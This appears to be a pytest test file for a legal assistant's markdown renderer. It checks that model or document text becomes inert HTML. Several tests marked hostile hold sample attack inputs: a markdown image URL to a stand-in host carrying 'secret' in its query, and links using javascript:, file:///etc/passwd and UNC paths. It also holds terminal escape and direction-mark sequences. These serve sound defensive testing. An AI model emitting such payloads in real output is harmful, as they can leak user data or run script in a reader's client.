"""What a model or a document says becomes inert rich text."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from legal_assistant.gui.markdown import MAX_CHARACTERS, clean, link_target, to_html

ALLOWED = {
    "p", "br", "b", "i", "s", "a", "code", "pre", "ul", "ol", "li", "blockquote", "table", "tr", "td", "th", "hr",
}  # fmt: skip
_TAG = re.compile(r"<(/?)([a-zA-Z!][^\s/>]*)([^>]*)>")


def tags(markup: str) -> set[str]:
    return {match.group(2) for match in _TAG.finditer(markup)}


def test_emphasis_closes_next_to_chinese_punctuation() -> None:
    assert to_html("**建议：**请求调减") == "<p><b>建议：</b>请求调减</p>"


def test_lists_keep_their_numbers_and_levels() -> None:
    assert to_html("3. 甲\n4. 乙") == '<ol start="3"><li>甲</li><li>乙</li></ol>'
    assert to_html("- a\n  - b\n- c") == "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"


def test_a_table_and_a_fence() -> None:
    assert "<th>项</th>" in to_html("|项|额|\n|--|--|\n|租金|8,000|")
    assert to_html("```\n<x> **y**\n```") == "<pre>&lt;x&gt; **y**</pre>"


def test_a_heading_ends_before_the_marks_that_close_it() -> None:
    assert to_html("## 第七条 ##  ") == '<p class="h2">第七条</p>'
    assert to_html("# Skills in C#") == '<p class="h1">Skills in C#</p>'
    assert to_html("### ##") == '<p class="h3"></p>'


def test_marks_inside_marks() -> None:
    assert to_html("**甲 *乙* 丙** 丁") == "<p><b>甲 <i>乙</i> 丙</b> 丁</p>"
    assert to_html("**甲 **乙** 丙") == "<p>**甲 <b>乙</b> 丙</p>"


def test_only_known_citations_become_anchors() -> None:
    markup = to_html("甲 [1]，乙 [2, 3]，丙 [9]", cited={1, 2, 3})
    assert re.findall(r'href="(.*?)"', markup) == ["cite:1", "cite:2", "cite:3"]
    assert "[9]" in markup


@pytest.mark.hostile("F2")
def test_an_image_stays_text_and_loads_nothing() -> None:
    markup = to_html("![x](https://evil.example/?q=secret) <img src=http://evil.example>")
    assert tags(markup) == {"p", "a"}  # the bare address is offered as a link, which asks first
    assert "&lt;img" in markup
    assert "![x](https://evil.example/?q=secret)" in markup


@pytest.mark.hostile("F2")
def test_a_link_shows_its_real_address() -> None:
    markup = to_html("[harmless](https://evil.example/a?b=c)")
    assert "harmless (" in markup
    assert ">https://evil.example/a?b=c</a>" in markup
    href = re.findall(r'href="(.*?)"', markup)[0]
    assert href.startswith("ask:")
    assert link_target(href) == "https://evil.example/a?b=c"


@pytest.mark.parametrize(
    "target", ["file:///etc/passwd", "javascript:alert(1)", r"\\host\share", "https://user@evil.example/", "http:///x", "//x/y"]
)
@pytest.mark.hostile("F2")
def test_other_addresses_are_no_links(target: str) -> None:
    assert "<a" not in to_html(f"[x]({target})")
    assert link_target("ask:" + target) == ""


@pytest.mark.hostile("F9")
def test_controls_and_direction_marks_are_taken_out() -> None:
    assert clean("\x1b[31mred\x1b[0m \x1b]0;title\x07a\u202eb\u2066c\u200b\ufeff\x00d\U000e0041") == "red abcd"
    assert clean("a\r\nb\u2028c\td") == "a\nb\nc\td"


@pytest.mark.hostile("F9")
def test_a_long_text_is_cut() -> None:
    assert len(clean("a" * (MAX_CHARACTERS + 5))) == MAX_CHARACTERS


@given(st.text(alphabet="<>&\"'[]()!*_`#>-+| \n1。、甲ahttps:/.\\~", max_size=300))
@pytest.mark.hostile("F9")
def test_no_input_makes_another_tag_or_attribute(text: str) -> None:
    for match in _TAG.finditer(to_html(text, cited={1, 11})):
        assert match.group(2) in ALLOWED
        attributes = re.sub(r'\s(?:class|href|start|cellspacing|cellpadding)="[^"<>]*"', "", match.group(3))
        assert attributes in {"", "/"}
    assert all(href.startswith(("cite:", "ask:http")) for href in re.findall(r'href="(.*?)"', to_html(text, cited={1, 11})))


@given(st.text(max_size=200))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    assert clean(clean(text)) == clean(text)


@given(st.text(alphabet="甲乙丙abc。，", min_size=1, max_size=80))
def test_plain_words_come_through(text: str) -> None:
    assert to_html(text) == f"<p>{text}</p>"
